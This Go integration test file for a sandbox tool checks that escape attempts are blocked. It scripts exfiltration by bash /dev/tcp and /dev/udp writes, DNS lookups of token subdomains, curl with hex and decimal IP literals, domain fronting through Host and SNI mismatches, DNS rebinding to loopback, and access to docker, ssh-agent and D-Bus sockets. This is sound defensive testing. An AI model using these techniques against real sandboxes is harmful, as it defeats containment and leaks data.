//go:build linux

package integration

import (
	"fmt"
	"net"
	"os"
	"path/filepath"
	"strconv"
	"strings"
	"testing"
	"time"
)

// The network attacks. Unix sockets need no network: they are in
// TestEscape. The others run against the test network of
// network_proxy_test.go (servers behind a veth pair, traps on the host's
// loopback and own address, /etc/hosts names), judged by what the servers
// and traps received; the policy allows allowed.cordon-test alone.

// sockDir is a directory for the case's unix sockets on the host, short
// enough for their 108-byte names, visible (read-only) in the sandbox.
func (e *escEnv) sockDir() string {
	e.t.Helper()
	d, err := os.MkdirTemp(wsRootOutside, "s")
	must(e.t, err)
	must(e.t, os.Chmod(d, 0o755))
	e.t.Cleanup(func() { os.RemoveAll(d) })
	return d
}

// sinkBreach returns a breach when the case's listeners received the
// token.
func sinkBreach(what string) func(e *escEnv, r result) []string {
	return func(e *escEnv, r result) []string {
		time.Sleep(100 * time.Millisecond)
		if got := e.sink.String(); strings.Contains(got, e.token) {
			return []string{fmt.Sprintf("%s received %q", what, got)}
		}
		return nil
	}
}

func localNetCases() []escCase {
	const sock = "the host's unix socket"
	return []escCase{
		{cat: catNet, name: "abstract unix sockets on the host",
			setup: func(e *escEnv) {
				listenUnix(e, "@cordon-it-"+e.token, "unix")
				listenUnix(e, "@cordon-it-g-"+e.token, "unixgram")
			},
			script: `CORDON_IT_ESCAPE=unix "$HELPER" "@cordon-it-$TOKEN" "$TOKEN"; CORDON_IT_ESCAPE=unix "$HELPER" "@cordon-it-g-$TOKEN" "$TOKEN"; sleep 0.2`,
			breach: sinkBreach(sock)},
		{cat: catNet, name: "a docker.sock", tools: []string{"curl"},
			setup: func(e *escEnv) {
				p := filepath.Join(e.sockDir(), "docker.sock")
				listenUnix(e, p, "unix")
				e.set("SOCK", p)
			},
			script: `CORDON_IT_ESCAPE=unix "$HELPER" "$SOCK" "$TOKEN"; curl -sS --max-time 3 --unix-socket "$SOCK" "http://localhost/v1.41/containers/create?$TOKEN"; true`,
			breach: sinkBreach(sock)},
		{cat: catNet, name: "a host service's unix datagram socket", tools: []string{"logger"},
			setup: func(e *escEnv) {
				// As journald's /run/systemd/journal/socket or syslog's
				// /dev/log: the sandbox may not make an AF_UNIX socket,
				// but a datagram socket pair can be pointed anywhere.
				p := filepath.Join(e.sockDir(), "dev-log")
				listenUnix(e, p, "unixgram")
				e.set("DGRAM", p)
			},
			script: `CORDON_IT_ESCAPE=unix "$HELPER" "$DGRAM" "$TOKEN"; logger -u "$DGRAM" "$TOKEN"; true`,
			breach: sinkBreach(sock)},
		{cat: catNet, name: "the X server",
			setup: func(e *escEnv) {
				// An X server listens on /tmp/.X11-unix/XN and, on Linux,
				// on the abstract @/tmp/.X11-unix/XN.
				n := 900 + int(e.token[len(e.token)-1])%99
				listenUnix(e, fmt.Sprintf("@/tmp/.X11-unix/X%d-%s", n, e.token), "unix")
				p := filepath.Join(e.sockDir(), fmt.Sprintf("X%d", n))
				listenUnix(e, p, "unix")
				e.set("DISPLAY", fmt.Sprintf(":%d", n))
				e.set("XSOCK", p)
				e.set("XABSTRACT", fmt.Sprintf("@/tmp/.X11-unix/X%d-%s", n, e.token))
			},
			script: `CORDON_IT_ESCAPE=unix "$HELPER" "$XSOCK" "$TOKEN"; CORDON_IT_ESCAPE=unix "$HELPER" "$XABSTRACT" "$TOKEN"; sleep 0.2`,
			breach: sinkBreach("the X server's socket")},
		{cat: catNet, name: "the D-Bus session and system buses",
			setup: func(e *escEnv) {
				d := e.sockDir()
				for _, name := range []string{"bus", "system_bus_socket"} {
					listenUnix(e, filepath.Join(d, name), "unix")
				}
				listenUnix(e, "@dbus-"+e.token, "unix")
				e.set("DBUS_SESSION_BUS_ADDRESS", "unix:path="+filepath.Join(d, "bus"))
				e.set("BUSDIR", d)
			},
			script: `bus=${DBUS_SESSION_BUS_ADDRESS#unix:path=}; [ -n "$bus" ] || bus="$BUSDIR/bus"
for s in "$bus" "$BUSDIR/system_bus_socket" "@dbus-$TOKEN"; do CORDON_IT_ESCAPE=unix "$HELPER" "$s" "$TOKEN"; done
command -v dbus-send >/dev/null && dbus-send --bus="unix:path=$BUSDIR/bus" --dest=org.freedesktop.DBus / org.freedesktop.DBus.Hello; sleep 0.2; true`,
			breach: sinkBreach("the D-Bus socket")},
		{cat: catNet, name: "the ssh agent", tools: []string{"ssh-add"},
			setup: func(e *escEnv) {
				p := filepath.Join(e.sockDir(), "agent.sock")
				listenUnix(e, p, "unix")
				e.set("SSH_AUTH_SOCK", p)
				e.set("AGENT_GUESS", p)
			},
			script: `CORDON_IT_ESCAPE=unix "$HELPER" "${SSH_AUTH_SOCK:-$AGENT_GUESS}" "$TOKEN"; SSH_AUTH_SOCK="$AGENT_GUESS" timeout 3 ssh-add -l; true`,
			breach: sinkBreach(sock)},
	}
}

// listenTrap listens on the host at addr ("[::1]:0"), records what
// arrives in the case's sink, and returns the port.
func listenTrap(e *escEnv, network, addr string) int {
	l, err := net.Listen(network, addr)
	must(e.t, err)
	sinkConns(e, l, 3*time.Second)
	return l.Addr().(*net.TCPAddr).Port
}

// netEscapeCases are the attacks on the test network f (nil when only
// counted).
func netEscapeCases(f *netFixture) []escCase {
	reached := func(e *escEnv, r result) []string {
		time.Sleep(100 * time.Millisecond)
		var out []string
		for _, s := range f.seen(e.t, e.token) {
			out = append(out, fmt.Sprintf("the test network received %+v", s))
		}
		return out
	}
	ports := func(e *escEnv) {
		e.set("REBIND", strconv.Itoa(f.trapPort["rebind"]))
		e.set("OWN", strconv.Itoa(f.trapPort["own"]))
	}
	const c = "curl -sS --max-time 5 "
	// fronted: a request reached the server for a site other than the
	// allowed one (by its TLS server name or its Host).
	fronted := func(e *escEnv, r result) []string {
		time.Sleep(100 * time.Millisecond)
		var out []string
		for _, s := range f.seen(e.t, e.token) {
			host := strings.TrimSuffix(s.Host, ":80")
			if !strings.EqualFold(host, "allowed.cordon-test") || s.SNI != "" && !strings.EqualFold(s.SNI, "allowed.cordon-test") {
				out = append(out, fmt.Sprintf("the server received a request for %q (server name %q): %+v", s.Host, s.SNI, s))
			}
		}
		return out
	}
	return []escCase{
		{cat: catNet, name: "direct TCP around the proxy", tools: []string{"bash", "curl"},
			script: `bash -c 'echo "$TOKEN-tcp" > /dev/tcp/` + netServerAddr + `/81'
` + c + `--noproxy '*' http://` + netServerAddr + `/$TOKEN-ip
` + c + `--noproxy '*' http://allowed.cordon-test/$TOKEN-name; true`,
			breach: reached},
		{cat: catNet, name: "UDP around the proxy", tools: []string{"bash"},
			script: `bash -c 'echo "$TOKEN-udp" > /dev/udp/` + netServerAddr + `/9999'; bash -c 'echo "$TOKEN-udp53" > /dev/udp/` + netServerAddr + `/53'; true`,
			breach: reached},
		{cat: catNet, name: "DNS exfiltration", tools: []string{"getent"},
			script: `CORDON_IT_NET=dns "$HELPER" ` + netServerAddr + `:53 "$TOKEN.exfil.cordon-test"; getent hosts "$TOKEN.exfil.cordon-test"; true`,
			breach: reached},
		{cat: catNet, name: "IP literals", tools: []string{"curl"},
			script: c + `http://` + netServerAddr + `/$TOKEN-v4; ` + c + `-g "http://[::ffff:` + netServerAddr + `]/$TOKEN-mapped"
` + c + `http://0x0ae70002/$TOKEN-hex; ` + c + `http://182910978/$TOKEN-decimal; ` + c + `--socks5 127.0.0.1:1080 http://` + netServerAddr + `/$TOKEN-socks; true`,
			breach: reached},
		{cat: catNet, name: "IPv6 to the host", tools: []string{"curl"},
			setup: func(e *escEnv) {
				e.set("V6PORT", strconv.Itoa(listenTrap(e, "tcp6", "[::1]:0")))
			},
			script: c + `-g --noproxy '*' "http://[::1]:$V6PORT/$TOKEN"; ` + c + `-g "http://[::1]:$V6PORT/$TOKEN-proxy"; true`,
			breach: sinkBreach("the host's [::1]")},
		{cat: catNet, name: "a Host header other than the destination", tools: []string{"curl"},
			script: c + `-H "Host: unlisted.cordon-test" http://allowed.cordon-test/$TOKEN-host; ` +
				c + `--proxy-header "Host: unlisted.cordon-test" -H "Host: unlisted.cordon-test:80" http://allowed.cordon-test/$TOKEN-host2; true`,
			breach: func(e *escEnv, r result) []string {
				time.Sleep(100 * time.Millisecond)
				var out []string
				for _, s := range f.seen(e.t, e.token) {
					if !strings.EqualFold(strings.TrimSuffix(s.Host, ":80"), "allowed.cordon-test") {
						out = append(out, fmt.Sprintf("the server received a request for %q: %+v", s.Host, s))
					}
				}
				return out
			}},
		{cat: catNet, name: "a TLS server name other than the CONNECT target (domain fronting)", tools: []string{"curl"},
			// The test network's server is every name's "CDN": it records
			// the server name and Host each request carried.
			script: `CORDON_IT_ESCAPE=front "$HELPER" allowed.cordon-test:443 unlisted.cordon-test unlisted.cordon-test /$TOKEN-sni
CORDON_IT_ESCAPE=front "$HELPER" allowed.cordon-test:443 denied.cordon-test allowed.cordon-test /$TOKEN-sni2
` + c + `-k --connect-to unlisted.cordon-test:443:allowed.cordon-test:443 https://unlisted.cordon-test/$TOKEN-curl; true`,
			breach: fronted},
		{cat: catNet, name: "a plain HTTP Host other than the CONNECT target",
			script: `CORDON_IT_ESCAPE=front "$HELPER" allowed.cordon-test:80 - unlisted.cordon-test /$TOKEN-plain
CORDON_IT_ESCAPE=front "$HELPER" allowed.cordon-test:80 - unlisted.cordon-test:80 /$TOKEN-plain2; true`,
			breach: fronted},
		{cat: catNet, name: "a plain HTTP Host other than the CONNECT target, with a lower-case method",
			// Go's server (the test network's) takes any token as a method
			script: `CORDON_IT_ESCAPE=front CORDON_IT_FRONT=lower "$HELPER" allowed.cordon-test:80 - unlisted.cordon-test /$TOKEN-lower; true`,
			breach: fronted},
		{cat: catNet, name: "a plain HTTP2 authority other than the CONNECT target (prior knowledge)",
			script: `CORDON_IT_ESCAPE=front CORDON_IT_FRONT=h2c "$HELPER" allowed.cordon-test:80 - unlisted.cordon-test /$TOKEN-h2c; true`,
			breach: fronted},
		{cat: catNet, name: "CONNECT and SOCKS to IP literals", tools: []string{"curl"},
			script: c + `-k -p https://` + netServerAddr + `/$TOKEN-connect; ` + c + `-p http://` + netServerAddr + `/$TOKEN-connect80
` + c + `-k -p -g "https://[::ffff:` + netServerAddr + `]/$TOKEN-connect-mapped"; ` + c + `--socks5 127.0.0.1:1080 -k https://` + netServerAddr + `/$TOKEN-socks
CORDON_IT_ESCAPE=front "$HELPER" ` + netServerAddr + `:443 allowed.cordon-test allowed.cordon-test /$TOKEN-front; true`,
			breach: reached},
		{cat: catNet, name: "an allowed name that resolves to the host's loopback", tools: []string{"curl"},
			setup: func(e *escEnv) {
				ports(e)
				e.flags = append(e.flags, "--allow-domain", "rebind.cordon-test")
			},
			script: c + `http://rebind.cordon-test:$REBIND/$TOKEN; ` + c + `--socks5-hostname 127.0.0.1:1080 http://rebind.cordon-test:$REBIND/$TOKEN-socks; true`,
			breach: reached},
		{cat: catNet, name: "services on the host's loopback", tools: []string{"bash", "curl"},
			setup: ports,
			script: c + `--noproxy '*' http://127.0.0.1:$REBIND/$TOKEN; ` + c + `http://127.0.0.1:$REBIND/$TOKEN-proxy; ` +
				c + `--noproxy '*' http://localhost:$REBIND/$TOKEN-localhost; bash -c 'echo "$TOKEN-tcp" > /dev/tcp/127.0.0.1/$REBIND'; true`,
			breach: reached},
		{cat: catNet, name: "the host's own address", tools: []string{"curl"},
			setup: func(e *escEnv) {
				ports(e)
				e.flags = append(e.flags, "--allow-domain", "own.cordon-test")
			},
			script: c + `--noproxy '*' http://` + netHostAddr + `:$OWN/$TOKEN; ` + c + `http://own.cordon-test:$OWN/$TOKEN-proxy; true`,
			breach: reached},
	}
}

// TestEscapeNetwork runs the network attacks on the test network, in the
// sandbox, cold and through cordon serve (nothing arrives), and unguarded
// (they arrive), as root and as an unprivileged user.
func TestEscapeNetwork(t *testing.T) {
	// Not parallel: it holds the test network (see newNetFixture).
	requires(t, netNeedRoot, needTool("ip"), needTool("curl"))
	f := newNetFixture(t)
	eachCaller(t, func(t *testing.T, c *caller) {
		for _, tc := range netEscapeCases(f) {
			for _, how := range []runHow{cold, warm, contained, unguarded} {
				name := map[runHow]string{cold: "sandboxed", warm: "warm", contained: "contained", unguarded: "unguarded"}[how]
				t.Run(name+"/"+tc.name, func(t *testing.T) {
					t.Parallel()
					runCase(t, c, tc, how)
				})
			}
		}
	})
}
